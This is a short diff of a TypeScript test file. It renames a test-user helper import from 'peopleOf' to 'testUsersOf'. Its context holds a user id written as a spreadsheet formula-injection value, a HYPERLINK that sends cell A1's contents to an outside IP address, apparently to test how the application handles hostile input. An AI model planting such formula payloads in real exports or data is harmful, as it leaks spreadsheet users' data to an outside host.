@@ -7,10 +7,10 @@ import { changeFile } from '../unit/support/damage-file.ts';
 import { expectNoViolations } from './support/axe.ts';
 import { connectTo, type Operator, operate } from './support/console.ts';
 import { ownCoreUnderTest } from './support/own-core.ts';
-import { peopleOf } from './support/people.ts';
+import { testUsersOf } from './support/users.ts';
 
 const core = ownCoreUnderTest();
-const { alive } = peopleOf(core);
+const { alive } = testUsersOf(core);
 
 /** Of an application that keeps sessions under ids of its own: a spreadsheet would run it. */
 const userId = '=HYPERLINK("http://203.0.113.1/"&A1)';
